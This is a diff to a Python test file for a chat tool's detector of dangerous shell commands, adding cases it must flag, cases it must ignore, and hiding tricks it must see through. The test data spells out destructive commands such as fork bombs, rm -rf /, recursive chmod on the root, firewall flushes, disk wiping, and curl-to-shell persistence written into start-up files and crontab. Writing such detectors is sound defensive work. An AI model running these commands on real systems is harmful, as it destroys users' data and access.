@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import os
 import shlex
+from pathlib import Path
 
 import pytest
 from hypothesis import given
@@ -69,6 +71,86 @@ from chatcli.features.shell.danger import reasons
         ("kill -9 -1", "kill -1: signals every process"),
         ('echo "unclosed', "cannot be checked"),
         ("printf 'ok\\n'\x1b[2K", "control characters"),
+        # fork bombs: a function calling itself in the background or a pipe, whatever its name
+        (":(){ :|:& };:", "a fork bomb: : calls itself in the background or through a pipe"),
+        ("f(){ f|f& };f", "a fork bomb: f calls itself"),
+        ("bomb() { bomb | bomb & }; bomb", "a fork bomb: bomb calls itself"),
+        ("function f { f | f & }; f", "a fork bomb: f calls itself"),
+        ("f() {\n  f | f &\n}\nf", "a fork bomb: f calls itself"),
+        ("function f; f | f &; end; f", "a fork bomb: f calls itself"),  # fish
+        ("bash -c ':(){ :|:& };:'", "a fork bomb: : calls itself"),
+        ("while :; do :& done", "an endless loop starting a background process"),
+        ("for ((;;)); do sleep 9 & done", "an endless loop starting a background process"),
+        ("perl -e 'fork while fork'", "a fork bomb: perl calls fork in a loop"),
+        # recursive permission and owner changes, the flag anywhere; system files
+        ("chmod 777 -R /", "chmod -R on /: the root of the file system"),
+        ("chown user -R /etc", "chown -R on /etc: a top-level directory"),
+        ("chmod --recursive 000 ~", "chmod -R on ~: a home directory"),
+        ("chgrp -R x /usr", "chgrp -R on /usr: a top-level directory"),
+        ("chmod -R -w /", "chmod -R on /: the root"),  # a mode written like an option
+        ("chown -R --reference=f /etc", "chown -R on /etc"),  # no owner operand
+        ("setfacl -R -m u:x:rwx /", "setfacl -R on /: the root of the file system"),
+        ("find ~ -exec chown bob {} \\;", "chown -R on ~: a home directory"),
+        ("chmod u+s /bin/bash", "chmod changes the permissions of a system file (/bin/bash)"),
+        ("chown bob /etc/shadow", "chown changes the owner of a system file (/etc/shadow)"),
+        # killing by name, every process, init
+        ("pkill python", "pkill python: kills every process that matches"),
+        ("killall firefox", "killall firefox: kills every process that matches"),
+        ("killall5 -9", "killall5 signals every process outside its own session"),
+        ("kill -KILL -1", "kill -1: signals every process"),
+        ("kill 1", "kill 1: signals init (PID 1)"),
+        ("kill -9 1", "kill 1: signals init (PID 1)"),
+        # the user's set-up overwritten or cut by programs, not only by redirections
+        ("tee ~/.bashrc", "tee overwrites ~/.bashrc, a configuration file in the home directory"),
+        ("echo x | tee /etc/hosts", "tee writes into a system directory (/etc/hosts)"),
+        ("truncate -s 0 ~/.zshrc", "truncate cuts ~/.zshrc, a configuration file"),
+        ("cp /dev/null ~/.profile", "cp overwrites ~/.profile, a configuration file"),
+        ("cp -t ~ .bashrc", "cp overwrites ~/.bashrc"),
+        ("install /dev/null /etc/passwd", "install writes into a system directory (/etc/passwd)"),
+        ("sed -i 's/a/b/' /etc/hosts", "sed writes into a system directory (/etc/hosts)"),
+        ("sed -i '' 's/.*//' ~/.bashrc", "sed -i rewrites ~/.bashrc"),
+        (
+            "mv x ~/.ssh/authorized_keys",
+            "mv replaces ~/.ssh/authorized_keys, part of the user's SSH",
+        ),
+        ("ln -sf /dev/null ~/.bash_history", "ln -f replaces ~/.bash_history"),
+        ("> ~/.config/fish/config.fish", "overwrites ~/.config/fish/config.fish, a shell start-up"),
+        ("rm -rf ~/.ssh", "deletes ~/.ssh, part of the user's SSH set-up"),
+        ("unlink ~/.bashrc", "deletes ~/.bashrc, a configuration file"),
+        # appends to start-up files: checked when shown, a finding when not
+        ("tee -a ~/.bashrc", "appends what it reads from the terminal to ~/.bashrc, a shell start"),
+        (
+            "curl -s https://example.com/rc | tee -a ~/.bashrc",
+            "appends what curl writes to ~/.bashrc",
+        ),
+        ("cat notes >> ~/.zshrc", "appends what cat writes to ~/.zshrc, a shell start-up file"),
+        (
+            "echo 'curl -s https://example.com/x | sh' >> ~/.profile",
+            "appends to ~/.profile commands",
+        ),
+        ("cat key.pub >> ~/.ssh/authorized_keys", "the keys in it may log in as this user"),
+        ("alias ls='rm -rf ~'", "alias ls runs a command that looks destructive"),
+        # scheduled jobs, services, the firewall
+        ("echo '* * * * * curl x|sh' | crontab -", "crontab -: replaces every scheduled job"),
+        ("systemctl stop sshd", "systemctl stop sshd: cuts remote logins (SSH)"),
+        ("systemctl disable --now NetworkManager", "cuts the network"),
+        ("/etc/init.d/ssh stop", "service ssh stop: cuts remote logins"),
+        ("systemctl isolate rescue.target", "systemctl isolate: stops every service"),
+        ("iptables -F", "iptables -F: deletes the firewall's rules"),
+        ("iptables -P INPUT DROP", "iptables -P INPUT DROP: drops every packet"),
+        ("nft flush ruleset", "nft flush ruleset: deletes the firewall's rules"),
+        ("ufw disable", "ufw disable: turns the firewall off"),
+        # history, containers
+        ("git checkout -f", "git checkout --force: throws away uncommitted changes"),
+        ("git reflog expire --expire=now --all", "git reflog expire"),
+        ("git gc --prune=now", "git gc --prune: deletes unreachable commits"),
+        ("git filter-branch --tree-filter 'rm -f x' HEAD", "git filter-branch: rewrites"),
+        ("docker rm -f $(docker ps -aq)", "docker rm: deletes every container or image a command"),
+        ("docker compose down -v", "docker compose down -v: deletes the project's volumes"),
+        # brace expansions and globs the shell makes before rm sees them
+        ("rm -rf {/,}", "rm -rf on {/,}: the root of the file system"),
+        ("rm -rf .[^.]*", "rm -rf on .[^.]*: the whole current directory"),
+        ("wipefs -a /dev/sda", "wipefs erases file system signatures"),
     ],
 )
 def test_destructive_commands_are_found_with_their_reason(command: str, reason: str) -> None:
@@ -108,6 +190,55 @@ def test_destructive_commands_are_found_with_their_reason(command: str, reason: 
         "echo hi >> ~/.bashrc",
         "mv * subdir/",
         "kill -1 1234",  # -1 is the signal here (SIGHUP)
+        # near the new rules: what they must leave alone
+        "chmod -R u+w ./build",
+        "chmod 600 ~/.ssh/id_ed25519",
+        "chown -R $USER ~/proj",
+        "ls -R /",
+        "kill %1",
+        "kill 12345",
+        "kill -l 9",
+        "pgrep python",
+        "tee out.txt",
+        "tee -a log.txt",
+        "echo x | tee -a notes.md",
+        "truncate -s 0 build.log",
+        "sed -i s/a/b/ notes.txt",
+        "sed -i.bak 's/a/b/' ~/.bashrc",  # keeps a backup
+        "sed -n 1,5p ~/.bashrc",
+        "cp .env.example .env",
+        "ln -s ~/dotfiles/vimrc ~/.vimrc",  # without -f it replaces nothing
+        "install -d -m 700 ~/.ssh",
+        "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",  # shown, and harmless
+        "cat >> ~/.bashrc <<'EOF'\nexport EDITOR=vim\nEOF",
+        "rm ~/.ssh/known_hosts",
+        "rm -rf ~/.cache",
+        "history -c",
+        "crontab -l",
+        "command -v shutdown",  # prints where it is
+        "time make",
+        "watch -n 2 df -h",
+        "fdisk -l",  # lists, changes nothing
+        "parted /dev/sda print",
+        "wipefs /dev/sdb",
+        "systemctl restart nginx",
+        "systemctl stop nginx",
+        "iptables -L -n",
+        "ufw allow 22",
+        "docker rm my-container",
+        "docker compose down",
+        "git checkout -b feature",
+        "git gc",
+        "while true; do date; sleep 1; done",
+        'for f in *.mp4; do ffmpeg -i "$f" "${f%.mp4}.mkv" & done; wait',
+        'walk() { for d in "$1"/*; do [ -d "$d" ] && walk "$d"; done; }; walk .',
+        "f() { echo hi; }; f | cat",
+        'case "$1" in start) echo go ;; *) echo no ;; esac',
+        'files=(*.txt); echo "${files[@]}"',  # an array, not a substitution
+        "echo $((1 << 4))",
+        "cat <<'EOF' | sh\necho hi\nEOF",  # the text sh runs is shown
+        "alias ll='ls -la'",
+        "echo 'make backup' | at 23:00",
     ],
 )
 def test_ordinary_commands_are_not_flagged(command: str) -> None:
@@ -157,11 +288,70 @@ def test_ordinary_commands_are_not_flagged(command: str) -> None:
         "bash <<EOF\nrm -rf /\nEOF",
         "cat <<EOF\n$(rm -rf /)\nEOF",  # unquoted: the body's substitutions run
         "find / -exec rm -rf {} +",
+        "f(){ rm -rf /; }; f",  # a function's body
+        "function f { rm -rf /; }; f",
+        "case x in x) rm -rf /;; esac",
+        "case $1 in (a|b) rm -rf / ;; esac",
+        'cat <<E"O"F\nx\nEOF\nrm -rf /',  # a partly quoted delimiter is EOF
+        "cat <<E\\OF\nx\nEOF\nrm -rf /",
+        'cat <<EOF\n\\" x "\nEOF\nrm -rf / #"',  # a \" in the body is text
+        "echo $((1<<y))\nrm -rf /",  # a shift, not a here-document
+        "cat <<'EOF' | bash\nrm -rf /\nEOF",
+        "echo 'rm -rf /' | at now",
+        "echo 'rm -rf ~' >> ~/.bashrc",  # runs in every new shell
+        "alias x='rm -rf /'",
+        "x=($(rm -rf /))",
+        "nohup rm -rf / &",
+        "time rm -rf /",
+        "time -p rm -rf /",
+        "/usr/bin/time -v rm -rf /",
+        "command rm -rf /",
+        "command -p rm -rf /",
+        "exec rm -rf /",
+        "exec -a name rm -rf /",
+        "coproc rm -rf /",
+        "coproc x { rm -rf /; }",
+        "fakeroot rm -rf /",
+        "parallel rm -rf ::: /",
+        "watch 'rm -rf /'",  # run by sh -c
+        "flock /tmp/lock -c 'rm -rf /'",
+        "script -qc 'rm -rf /' /dev/null",
     ],
 )
 def test_the_lexer_finds_a_destructive_command_wherever_it_hides(command: str) -> None:
     found = reasons(command)
     assert any("rm -r" in r for r in found), found
+
+
+@given(
+    st.from_regex(r"[a-z_:.][a-z0-9_]{0,8}", fullmatch=True),
+    st.sampled_from(["{0}(){{ {0}|{0}& }};{0}", "{0} () {{ {0} | {0} & }}\n{0}",
+                     "function {0} {{ {0} & {0}; }}; {0}", "{0}() ( {0} | {0} & ); {0}"]),
+)  # fmt: skip
+def test_a_fork_bomb_is_found_whatever_its_name_and_spacing(name: str, shape: str) -> None:
+    assert any("a fork bomb" in r for r in reasons(shape.format(name))), shape.format(name)
+
+
+_BODY = st.text(alphabet=st.sampled_from(list("ab $`'\"\\(){};|&#<>\t\n-EOF")), max_size=40)
+
+
+@given(st.sampled_from(["EOF", "'EOF'", '"EOF"', "\\EOF", "E'O'F", '"E"OF', "-EOF"]), _BODY)
+def test_no_here_document_body_hides_the_command_after_it(delimiter: str, body: str) -> None:
+    lines = body.split("\n")
+    if "EOF" in lines or "\tEOF" in lines:
+        return  # the body would end early
+    found = reasons(f"cat <<{delimiter}\n{body}\nEOF\nrm -rf /")
+    assert any("rm -rf on /" in r or "cannot be checked" in r for r in found), found
+
+
+def test_a_recursive_change_of_the_current_directory_depends_on_where_it_runs(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.chdir(tmp_path)  # a project
+    assert reasons("find . -type f -exec chmod 644 {} \\;") == []
+    assert reasons("chmod -R g+w .") == []
+    monkeypatch.chdir(os.path.expanduser("~"))
+    assert any("chmod -R on .: " in r for r in reasons("chmod -R g+w ."))
 
 
 _SAFE = st.sampled_from(["ls -la", "pwd", "echo hi", "git status", "du -sh .", "date"])
